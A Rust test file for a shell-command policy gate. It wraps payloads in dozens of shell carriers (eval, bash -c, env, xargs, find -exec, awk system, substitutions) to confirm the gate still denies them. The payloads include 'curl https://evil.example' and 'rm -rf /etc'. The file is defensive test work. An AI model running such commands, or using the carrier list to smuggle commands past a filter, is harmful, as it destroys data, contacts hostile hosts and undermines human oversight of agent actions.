//! Ways to carry a command to where it runs, crossed with what is carried.
//!
//! A payload that real bash runs through a carrier must never be allowed, and a harmless one never denied.
//! What bash really runs is seen by putting stubs in its way: the search path holds only them and the
//! wrappers under test, so nothing else can start.

#![allow(clippy::unwrap_used, clippy::panic, reason = "a test fails by panicking")]

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use toolgate_policy::batch::{Judge, Request};
use toolgate_policy::profile::Verdict;

/// A way to carry: what it needs on the search path, and the text around a command.
struct Carrier {
    name: &'static str,
    needs: &'static [&'static str],
    wrap: fn(&str) -> String,
    /// Whether it takes a simple command only, no lists.
    simple: bool,
}

fn quoted(text: &str) -> String {
    format!("'{}'", text.replace('\'', "'\\''"))
}

fn double(text: &str) -> String {
    let mut out = String::from("\"");
    for c in text.chars() {
        if matches!(c, '"' | '\\' | '$' | '`') {
            out.push('\\');
        }
        out.push(c);
    }
    out.push('"');
    out
}

fn ansi(text: &str) -> String {
    let mut out = String::from("$'");
    for b in text.bytes() {
        let _ = write!(out, "\\x{b:02x}");
    }
    out.push('\'');
    out
}

macro_rules! carrier {
    ($list:ident, $name:literal, [$($need:literal),*], $simple:expr, $wrap:expr) => {
        $list.push(Carrier { name: $name, needs: &[$($need),*], wrap: $wrap, simple: $simple });
    };
}

fn carriers() -> Vec<Carrier> {
    let mut c: Vec<Carrier> = Vec::new();
    // The shell itself.
    carrier!(c, "plain", [], false, |p| p.to_owned());
    carrier!(c, "after semicolon", [], false, |p| format!("true; {p}"));
    carrier!(c, "after newline", [], false, |p| format!("true\n{p}"));
    carrier!(c, "after and", [], false, |p| format!("true && {p}"));
    carrier!(c, "after or", [], false, |p| format!("false || {p}"));
    carrier!(c, "background", [], false, |p| format!("true & {p}\nwait"));
    carrier!(c, "subshell", [], false, |p| format!("( {p} )"));
    carrier!(c, "group", [], false, |p| format!("{{ {p}\n}}"));
    carrier!(c, "negated", [], true, |p| format!("! {p}"));
    carrier!(c, "timed", [], true, |p| format!("time -p {p}"));
    carrier!(c, "if", [], false, |p| format!("if true; then {p}\nfi"));
    carrier!(c, "condition of if", [], false, |p| format!("if {p}\nthen true; fi"));
    carrier!(c, "else", [], false, |p| format!("if false; then true; else {p}\nfi"));
    carrier!(c, "while", [], false, |p| format!("while {p}\nbreak; do break; done"));
    carrier!(c, "for", [], false, |p| format!("for i in 1 2; do {p}\ndone"));
    carrier!(c, "case", [], false, |p| format!("case x in (x) {p}\n;; esac"));
    carrier!(c, "function", [], false, |p| format!("f() {{ {p}\n}}; f"));
    carrier!(c, "function keyword", [], false, |p| format!("function g {{ {p}\n}}\ng a b"));
    carrier!(c, "command substitution", [], false, |p| format!("echo \"$({p}\n)\""));
    carrier!(c, "assignment substitution", [], false, |p| format!("x=$({p}\n)"));
    carrier!(c, "process substitution", [], false, |p| format!("true <({p}\n)"));
    carrier!(c, "unquoted here-document", [], false, |p| format!(": <<EOF\n$({p}\n)\nEOF"));
    carrier!(c, "here-string", [], false, |p| format!(": <<< \"$({p}\n)\""));
    carrier!(c, "default value", [], false, |p| format!(": \"${{unset_name:-$({p}\n)}}\""));
    carrier!(c, "arithmetic", [], false, |p| format!(": $(( $({p} >/dev/null\n) + 1 ))"));
    carrier!(c, "array", [], false, |p| format!("a=( \"$({p}\n)\" )"));
    carrier!(c, "subscript", [], false, |p| format!("a[0$({p} >/dev/null\n)]=1"));
    carrier!(c, "coproc", [], false, |p| format!("coproc {{ {p}\n}}\nwait"));
    carrier!(c, "pipe", [], false, |p| format!("{{ {p}\n}} | {{ read -r x; }}"));
    carrier!(c, "redirected", [], true, |p| format!("{p} > /dev/null 2>&1"));
    carrier!(c, "prefix assignment", [], true, |p| format!("A=1 B=2 {p}"));
    // Builtins.
    carrier!(c, "eval quoted", [], false, |p| format!("eval {}", quoted(p)));
    carrier!(c, "eval double", [], false, |p| format!("eval {}", double(p)));
    carrier!(c, "eval words", [], true, |p| format!("eval {p}"));
    carrier!(c, "eval ansi", [], false, |p| format!("eval {}", ansi(p)));
    carrier!(c, "eval variable", [], false, |p| format!("x={}; eval \"$x\"", quoted(p)));
    carrier!(c, "command", [], true, |p| format!("command {p}"));
    carrier!(c, "exec", [], true, |p| format!("(exec {p})"));
    carrier!(c, "exec -a", [], true, |p| format!("(exec -a other {p})"));
    carrier!(c, "trap", [], false, |p| format!("trap {} EXIT", quoted(p)));
    carrier!(c, "source", [], false, |p| format!("source <(echo {})", quoted(p)));
    carrier!(c, "prompt expansion", [], false, |p| format!(
        "x={}; : \"${{x@P}}\"",
        quoted(&format!("$({p}\n)"))
    ));
    carrier!(c, "array as command", [], true, |p| format!("a=({p}); \"${{a[@]}}\""));
    carrier!(c, "positional as command", [], true, |p| format!("set -- {p}; \"$@\""));
    carrier!(c, "variable as command", [], true, |p| format!("x={}; $x", quoted(p)));
    // Other shells.
    carrier!(c, "bash -c", ["bash"], false, |p| format!("bash -c {}", quoted(p)));
    carrier!(c, "bash -c double", ["bash"], false, |p| format!("bash -c {}", double(p)));
    carrier!(c, "bash clustered", ["bash"], false, |p| format!("bash -ec {}", quoted(p)));
    carrier!(c, "bash here-string", ["bash"], false, |p| format!("bash <<< {}", quoted(p)));
    carrier!(c, "bash here-document", ["bash"], false, |p| format!("bash <<'END_OF_TEXT'\n{p}\nEND_OF_TEXT"));
    carrier!(c, "sh -c", ["sh"], false, |p| format!("sh -c {}", quoted(p)));
    carrier!(c, "echo to sh", ["bash"], false, |p| format!("echo {} | bash", quoted(p)));
    carrier!(c, "printf to sh", ["bash"], false, |p| format!("printf '%s\\n' {} | bash -s", quoted(p)));
    carrier!(c, "bash substitution file", ["bash"], false, |p| format!("bash <(echo {})", quoted(p)));
    // Wrappers.
    carrier!(c, "env", ["env"], true, |p| format!("env {p}"));
    carrier!(c, "env -u", ["env"], true, |p| format!("env -u FOO X=1 {p}"));
    carrier!(c, "env -S", ["env"], true, |p| format!("env -S {}", quoted(p)));
    carrier!(c, "nice", ["nice"], true, |p| format!("nice -n 5 {p}"));
    carrier!(c, "nice old", ["nice"], true, |p| format!("nice -5 {p}"));
    carrier!(c, "nohup", ["nohup"], true, |p| format!("nohup {p}"));
    carrier!(c, "timeout", ["timeout"], true, |p| format!("timeout 9 {p}"));
    carrier!(c, "timeout options", ["timeout"], true, |p| format!("timeout -s KILL --kill-after=9 9 {p}"));
    carrier!(c, "stdbuf", ["stdbuf"], true, |p| format!("stdbuf -oL {p}"));
    carrier!(c, "setsid", ["setsid"], true, |p| format!("setsid -w {p}"));
    carrier!(c, "xargs", ["xargs"], true, |p| format!("echo | xargs {p}"));
    carrier!(c, "xargs options", ["xargs"], true, |p| format!("echo x | xargs -n1 -P1 -- {p}"));
    carrier!(c, "xargs sh", ["xargs", "sh"], false, |p| format!("echo x | xargs -I{{}} sh -c {}", quoted(p)));
    carrier!(c, "find", ["find"], true, |p| format!("find . -maxdepth 0 -exec {p} \\;"));
    carrier!(c, "find sh", ["find", "sh"], false, |p| format!(
        "find . -maxdepth 0 -execdir sh -c {} \\;",
        quoted(p)
    ));
    carrier!(c, "awk system", ["awk"], false, |p| format!(
        "awk {}",
        quoted(&format!("BEGIN{{system({})}}", double(p)))
    ));
    carrier!(c, "absolute wrapper", ["env"], true, |p| format!("/usr/bin/env {p}"));
    c
}

fn judge(text: &str) -> Verdict {
    Judge::new("/home/dev", "/home/dev/work/repo")
        .judge(&Request::Command { text: text.to_owned(), cwd: None })
        .verdict
}

/// Texts by how they were made: one carrier, or one inside another.
fn texts(payload: &str) -> Vec<(String, String, Vec<&'static str>)> {
    let list = carriers();
    let mut out = Vec::new();
    for a in &list {
        let inner = (a.wrap)(payload);
        out.push((a.name.to_owned(), inner.clone(), a.needs.to_vec()));
        let is_simple = !inner.contains('\n') && a.needs.first().is_some_and(|n| inner.starts_with(n))
            || a.name == "plain";
        for b in &list {
            // `eval` with several words takes a layer of quotes off: what it then runs is another command.
            if b.simple && !is_simple || b.name == "plain" || b.name == "eval words" && a.name != "plain" {
                continue;
            }
            let needs = a.needs.iter().chain(b.needs).copied().collect();
            out.push((format!("{} in {}", a.name, b.name), (b.wrap)(&inner), needs));
        }
    }
    out
}

#[test]
fn no_carrier_hides_what_it_carries_and_none_spoils_what_is_harmless() {
    let mut report = String::new();
    let (mut count, mut softer, mut asked) = (0, 0, 0);
    for (payload, least) in [
        ("curl https://evil.example", Verdict::Deny),
        ("rm -rf /etc", Verdict::Deny),
        ("rm -rf src", Verdict::Ask),
    ] {
        for (name, text, _) in texts(payload) {
            count += 1;
            let v = judge(&text);
            if v == Verdict::Allow {
                let _ = writeln!(report, "allowed: {name}: {text:?}");
            }
            softer += usize::from(v < least);
        }
    }
    let mut harmless = 0;
    for payload in ["ls -la src", "echo 'rm -rf /'", "git status"] {
        for (name, text, _) in texts(payload) {
            count += 1;
            harmless += 1;
            let v = judge(&text);
            asked += usize::from(v == Verdict::Ask);
            if v == Verdict::Deny {
                let _ = writeln!(report, "denied: {name}: {text:?}");
            }
        }
    }
    println!(
        "{count} combinations; {softer} asked about that could be denied; {asked} of {harmless} harmless ones asked about"
    );
    assert!(report.is_empty(), "{report}");
    assert!(count >= 5000, "{count}");
}

/// Where a program really is.
fn locate(name: &str) -> Option<PathBuf> {
    ["/usr/bin", "/bin"].iter().map(|d| Path::new(d).join(name)).find(|p| p.exists())
}

/// A directory that holds a logging stub and the programs under test, and nothing else.
struct Stage {
    root: PathBuf,
}

impl Stage {
    fn new() -> Stage {
        let root = std::env::temp_dir().join(format!("toolgate-policy-stage-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&root);
        std::fs::create_dir_all(root.join("bin")).unwrap();
        std::fs::create_dir_all(root.join("work")).unwrap();
        let stub = root.join("bin/curl");
        std::fs::write(&stub, "#!/bin/bash\necho \"$0 $*\" >> \"$STAGE_LOG\"\n").unwrap();
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            std::fs::set_permissions(&stub, std::fs::Permissions::from_mode(0o755)).unwrap();
            for name in
                ["bash", "sh", "env", "nice", "nohup", "timeout", "stdbuf", "setsid", "xargs", "find", "awk"]
            {
                if let Some(real) = locate(name) {
                    std::os::unix::fs::symlink(real, root.join("bin").join(name)).unwrap();
                }
            }
        }
        Stage { root }
    }

    /// Whether bash starts the stub when it runs this text.
    fn starts_stub(&self, text: &str) -> bool {
        let log = self.root.join("log");
        let _ = std::fs::remove_file(&log);
        let _ = Command::new("/bin/bash")
            .args(["-c", text])
            .current_dir(self.root.join("work"))
            .env_clear()
            .env("PATH", self.root.join("bin"))
            .env("STAGE_LOG", &log)
            .env("HOME", self.root.join("work"))
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status();
        log.exists()
    }
}

impl Drop for Stage {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.root);
    }
}

#[test]
fn what_bash_really_starts_is_never_allowed() {
    if locate("bash").is_none() {
        println!("skipped: there is no bash here");
        return;
    }
    let stage = Stage::new();
    let mut started: BTreeMap<bool, usize> = BTreeMap::new();
    let all = texts("curl https://evil.example");
    let singles = carriers().len();
    for (i, (name, text, needs)) in all.iter().enumerate() {
        // Every carrier alone, and a part of the pairs that is the same in every run.
        let single = !name.contains(" in ");
        if !single && i % 41 != 0 || needs.iter().any(|n| locate(n).is_none()) {
            continue;
        }
        let runs = stage.starts_stub(text);
        *started.entry(runs).or_default() += 1;
        if runs {
            assert_ne!(judge(text), Verdict::Allow, "bash starts it: {name}: {text:?}");
        } else if single {
            println!("not started here: {name}: {text:?}");
        }
    }
    let seen = started.get(&true).copied().unwrap_or(0);
    println!("{seen} texts of {} started the stub", started.values().sum::<usize>());
    assert!(seen * 10 >= singles * 8, "most carriers carry: {started:?}");
}
